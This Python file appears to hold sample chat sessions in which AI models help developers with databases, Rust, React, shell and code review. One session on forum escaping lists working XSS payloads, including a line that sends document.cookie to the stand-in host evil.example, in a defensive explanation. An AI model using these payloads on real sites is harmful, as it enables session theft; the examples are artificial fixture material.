"""Sample sessions: people who write software ask, with code, tables and markup in the answers."""

from __future__ import annotations

from datetime import timedelta

from sessions_app.samples.dialects import MESSAGES
from sessions_app.samples.talk import Talk

PLAN = """\
Limit  (cost=0.56..1482.11 rows=50 width=812) (actual time=2143.8..2144.0 rows=50 loops=1)
  ->  Index Scan Backward using orders_created_at on orders
        (cost=0.56..918231.4 rows=30984 width=812) (actual time=2143.8..2143.9 rows=50 loops=1)
        Filter: ((customer_id = 4711) AND (status = 'open'::text))
        Rows Removed by Filter: 3981204
Planning Time: 0.3 ms
Execution Time: 2144.1 ms"""


def slow_query() -> Talk:
    talk = Talk(
        "pg-advice-4711",
        timedelta(minutes=52),
        "claude-sonnet-4-5",
        system=(
            "You are a PostgreSQL consultant. Explain what the plan says before you advise. Version 17 unless "
            "told otherwise."
        ),
        user="dev-ines",
        tags=("engineering", "database"),
        dialect=MESSAGES,
        parameters={"temperature": 0.3},
    )
    talk.say(
        "This takes 2 seconds for one customer and 1 ms for others. Why?\n\n```sql\n"
        "SELECT * FROM orders WHERE customer_id = 4711 AND status = 'open' ORDER BY created_at DESC LIMIT "
        f"50;\n```\n\n```\n{PLAN}\n```"
    )
    talk.reply(
        "The plan walks the index on `created_at` from the newest order backwards and throws away what is not "
        "customer 4711. It expects to be done soon, because it "
        "believes the customer's 30,984 rows are spread evenly. They are not: customer 4711 has no *recent* "
        "open orders, so it reads and discards **3,981,204 rows** first.\n\n"
        "An index that has the filter first and the order second solves it for every customer:\n\n"
        "```sql\nCREATE INDEX CONCURRENTLY orders_open_by_customer\n"
        "    ON orders (customer_id, created_at DESC)\n    WHERE status = 'open';\n```\n\n"
        "| | before | after |\n|---|---:|---:|\n| rows read | 3,981,254 | 50 |\n"
        "| time | 2,144 ms | about 0.3 ms |\n| index size | – | 6 MB for 300,000 open orders |\n\n"
        "Being partial, it costs nothing for closed orders."
    )
    talk.say("We also filter status IN ('open','held') in one place. Does the partial index still help?")
    talk.reply(
        "No: PostgreSQL uses a partial index only if the query's condition *implies* the index's. `IN "
        "('open', 'held')` does not imply `= 'open'`.\n\n"
        "Make the index fit both:\n\n```sql\nCREATE INDEX CONCURRENTLY orders_active_by_customer\n"
        "    ON orders (customer_id, created_at DESC)\n    WHERE status IN ('open', 'held');\n```\n\n"
        "`status = 'open'` implies this one, so both queries use it; the first then filters the few `held` rows."
    )
    talk.say("Deployed, 0.4 ms. Should I drop orders_created_at now?")
    return talk.reply(
        "Check first whether anything uses it:\n\n```sql\nSELECT idx_scan, last_idx_scan FROM "
        "pg_stat_user_indexes WHERE indexrelname = 'orders_created_at';\n```\n\n"
        "If `last_idx_scan` is older than your oldest report (month end!), drop it with `DROP INDEX CONCURRENTLY`."
    )


def borrow_checker() -> Talk:
    talk = Talk(
        "rust-help-e0502",
        timedelta(hours=4, minutes=25),
        "gpt-4.1",
        user="dev-tom",
        tags=("engineering", "rust"),
        stream=True,
    )
    talk.say(
        "error[E0502]: cannot borrow `self.cache` as mutable because it is also borrowed as immutable. What "
        "am I doing wrong?\n\n"
        "```rust\nfn get(&mut self, key: &str) -> &Value {\n    if let Some(v) = self.cache.get(key) {\n"
        "        return v;\n    }\n    let v = self.load(key);\n    self.cache.insert(key.to_string(), v);\n"
        "    self.cache.get(key).unwrap()\n}\n```"
    )
    talk.reply(
        "Nothing, in a sense: the function is sound, but today's borrow checker can't see it. Because you "
        "*return* `v`, the shared borrow has to live as long as the "
        "function's result, and it counts on the other path too.\n\nTwo ways out. Look up twice:\n\n"
        "```rust\nfn get(&mut self, key: &str) -> &Value {\n    if !self.cache.contains_key(key) {\n"
        "        let value = self.load(key);\n        self.cache.insert(key.to_owned(), value);\n    }\n"
        "    &self.cache[key]\n}\n```\n\n"
        "or, with one look-up but an allocation for each call:\n\n```rust\n"
        "self.cache.entry(key.to_owned()).or_insert_with(|| load(key))\n```\n\n"
        "The second needs `load` to be no method of `self`, or the closure borrows it again. I'd take the first."
    )
    talk.say("First one compiles. clippy now says map_entry, should I listen?")
    return talk.reply(
        "Here, no: `entry()` needs an owned key, so each hit would allocate a string. Silence it where it "
        "stands:\n\n```rust\n#[allow(clippy::map_entry)] // entry() would allocate on every hit\n```"
    )


def react_rerender() -> Talk:
    talk = Talk(
        "fe-review-pr-918",
        timedelta(days=1, hours=5),
        "gpt-4o",
        user="dev-aiko",
        tags=("engineering", "frontend", "review"),
        metadata={"pull_request": 918},
    )
    talk.say(
        "Why does every row re-render when I tick one checkbox?\n\n```tsx\n"
        "function Table({ rows }: { rows: Row[] }) {\n  const [selected, setSelected] = "
        "useState<Set<string>>(new Set());\n"
        "  return rows.map((row) => (\n    <TableRow key={row.id} row={row} "
        "isSelected={selected.has(row.id)}\n      onToggle={() => setSelected(toggle(selected, row.id))} />\n"
        "  ));\n}\n```"
    )
    talk.reply(
        "`onToggle` is a new function on each render, so `React.memo` on `TableRow` would never see equal "
        "props. Pass something that stays the same:\n\n"
        "```diff\n-      onToggle={() => setSelected(toggle(selected, row.id))} />\n"
        "+      onToggle={onToggle} />\n```\n\n"
        "```tsx\nconst onToggle = useCallback(\n  (id: string) => setSelected((current) => toggle(current, "
        "id)),\n  [],\n);\n\nconst TableRow = memo(function TableRow({ row, isSelected, onToggle }: Props) {\n"
        '  return <input type="checkbox" checked={isSelected} onChange={() => onToggle(row.id)} />;\n});\n'
        "```\n\n"
        "With the updater form the callback no longer depends on `selected`. Only the ticked row changes its "
        "props, so only it renders."
    )
    talk.say("Nice. toggle() mutates the set and returns it, is that a problem?")
    return talk.reply(
        "Yes! The state would be the *same* object, React would see no change, and nothing would render. Copy it:\n\n"
        "```ts\nexport function toggle<T>(set: ReadonlySet<T>, value: T): Set<T> {\n"
        "  const copy = new Set(set);\n  if (!copy.delete(value)) copy.add(value);\n  return copy;\n}\n```"
    )


def html_escaping() -> Talk:
    """Markup in questions and answers: a page has to show it, not run it."""
    talk = Talk(
        "appsec-training-03",
        timedelta(days=1, hours=9),
        "gpt-4o-mini",
        user="dev-sam",
        tags=("engineering", "security"),
    )
    talk.say(
        'Our forum shows user names unescaped. Someone is called <b onmouseover="alert(1)">Bob</b>. How bad is it?'
    )
    talk.reply(
        "Bad: it is stored cross-site scripting. Whoever moves the mouse over the name runs Bob's code with "
        "*their own* session. It needs no `<script>` tag; all of these work:\n\n"
        "```html\n<img src=x onerror=\"fetch('https://evil.example/?c=' + document.cookie)\">\n"
        '<a href="javascript:alert(document.domain)">my homepage</a>\n<svg onload=alert(1)>\n'
        "<script>location = 'https://evil.example'</script>\n```\n\n"
        "Escape on output, in the template, always: `&lt;b onmouseover=&quot;alert(1)&quot;&gt;`. Filtering "
        "on input (removing `<script>`) misses most of the list above."
    )
    talk.say("And in Markdown? We render [text](url) and ![image](url) from users.")
    return talk.reply(
        "Markdown needs the same care after rendering:\n\n1. turn raw HTML off in the parser;\n"
        "2. allow only `https:`, `http:` and `mailto:` links: `[click me](javascript:alert(1))` is valid "
        "Markdown;\n"
        "3. do not load remote images: `![](https://tracker.example/pixel.png)` tells its owner who read the "
        "post;\n4. send a `Content-Security-Policy` without `unsafe-inline`, for the day that 1 to 3 fail."
    )


def log_one_liners() -> Talk:
    talk = Talk(
        "shell-qa-77",
        timedelta(days=2, hours=1),
        "claude-haiku-4-5",
        user="ops-kerem",
        tags=("engineering", "shell"),
        dialect=MESSAGES,
    )
    talk.say("nginx access log, top 10 paths by 5xx, one line")
    talk.reply(
        "```sh\nawk '$9 ~ /^5/ { n[$7]++ } END { for (p in n) print n[p], p }' access.log | sort -rn | head\n"
        "```\n\n`$9` is the status and `$7` the path in the default `combined` format."
    )
    talk.say("without the query string")
    talk.reply(
        "```sh\nawk '$9 ~ /^5/ { sub(/\\?.*/, \"\", $7); n[$7]++ } END { for (p in n) print n[p], p }' "
        "access.log | sort -rn | head\n```"
    )
    talk.say("and only the last hour?")
    return talk.reply(
        "If the log is in order, find the first line of the hour and start there:\n\n```sh\n"
        "since=$(LC_ALL=C date -d '1 hour ago' '+%d/%b/%Y:%H:%M')\n"
        "sed -n \"\\#\\[$since#,\\$p\" access.log | awk '…'\n```\n\n"
        "Mind that `sed` prints nothing if that very minute has no line; then go back one more minute."
    )


def code_review() -> Talk:
    talk = Talk(
        "mr-bot-2231",
        timedelta(hours=11, minutes=45),
        "gpt-4.1",
        system="You review merge requests. At most three findings, the worst first, each with file and line.",
        tags=("engineering", "review", "ci"),
        metadata={"merge_request": 2231, "commit": "8f1c0de"},
    )
    talk.say(
        "Please review: invoices in one transaction, so that a month is closed completely or not at all.\n\n"
        "```diff\n--- a/billing/invoices.py\n+++ b/billing/invoices.py\n"
        "@@ -41,12 +41,19 @@ def close_month(month):\n-    for account in Account.objects.all():\n"
        "-        invoice = create_invoice(account, month)\n"
        "-        send_mail(account.email, invoice)\n+    with transaction.atomic():\n"
        "+        for account in Account.objects.all():\n+            try:\n"
        "+                invoice = create_invoice(account, month)\n"
        "+                send_mail(account.email, invoice)\n"
        '+            except Exception:\n+                logger.warning("invoice failed for %s", account)\n'
        "+    return Invoice.objects.filter(month=month).count()\n```"
    )
    return talk.reply(
        "**1. Mails are sent inside the transaction** (`billing/invoices.py:46`). If the commit fails, "
        "customers hold invoices that do not exist. Collect them and send with `transaction.on_commit`.\n\n"
        "**2. A failing account poisons the rest** (`:47`). After a database error inside `atomic()` every "
        "further statement raises `TransactionManagementError`, which this `except` swallows too: one bad "
        "account, "
        "and *no* later account gets an invoice. Use a savepoint for each account:\n\n```python\n"
        "for account in Account.objects.iterator():\n    try:\n        with transaction.atomic():\n"
        "            invoice = create_invoice(account, month)\n    except Exception:\n"
        '        logger.exception("invoice failed for account %s", account.pk)\n```\n\n'
        "**3. `logger.warning` drops the traceback** (`:48`). `logger.exception` keeps it. Also log the key, "
        "not the object: its `__str__` contains the e-mail address."
    )


def logic_puzzle() -> Talk:
    """A reasoning model: summary of the thoughts, reasoning tokens."""
    talk = Talk(
        "puzzle-club-41",
        timedelta(days=3, hours=8),
        "o4-mini",
        user="puzzle-club",
        tags=("reasoning",),
        parameters={"reasoning_effort": "high"},
    )
    talk.say(
        "Three switches outside a room, one bulb inside. You may enter once. And the harder one: four "
        "switches, same rules?"
    )
    talk.reply(
        "**Three switches:** turn 1 on for five minutes, then off; turn 2 on; go in. Lit: 2. Dark and warm: "
        "1. Dark and cold: 3.\n\n"
        "**Four switches:** use light *and* warmth as two independent signs, 2 × 2 = 4 cases:\n\n"
        "| switch | first five minutes | on entering | bulb is |\n|---|---|---|---|\n"
        "| 1 | on | on | lit, hot |\n| 2 | on | off | dark, warm |\n| 3 | off | on | lit, cool |\n"
        "| 4 | off | off | dark, cold |\n\n"
        "So: 1 and 2 on, wait five minutes, 2 off and 3 on, go in at once. Five would need a third sign, or a "
        "second bulb.",
        reasoning=(
            "Observables: lit or not, warm or not: two bits. Four switches give four states, so it just fits. "
            "Assign (was on, is on). With LED bulbs the warmth is weaker, "
            "worth a remark? Keep it short. Lit and hot against lit and cool must be told apart: five minutes "
            "against seconds."
        ),
        hidden_reasoning=1408,
    )
    talk.say("with an LED bulb?")
    return talk.reply(
        "An LED's plastic dome hardly warms up, but the metal base above the socket does; wait fifteen "
        "minutes and touch *that*. Otherwise the four-switch version has no solution.",
        reasoning="The heat sink near the base gets to 40 to 60 degrees. Good.",
        hidden_reasoning=320,
    )


def legacy_completion() -> Talk:
    return (
        Talk(
            "autocomplete-probe",
            timedelta(days=4, hours=2),
            "llama-3.3-70b-instruct",
            system="Complete the commit message.",
            tags=("engineering", "self-hosted"),
            metadata={"cluster": "gpu-b"},
        )
        .say("fix: retry the upload when the")
        .reply(
            "fix: retry the upload when the connection is reset\n\n"
            "The storage answers with a reset after 60 s of silence; three attempts with back-off are enough."
        )
    )


SESSIONS = (
    slow_query,
    borrow_checker,
    react_rerender,
    html_escaping,
    log_one_liners,
    code_review,
    logic_puzzle,
    legacy_completion,
)
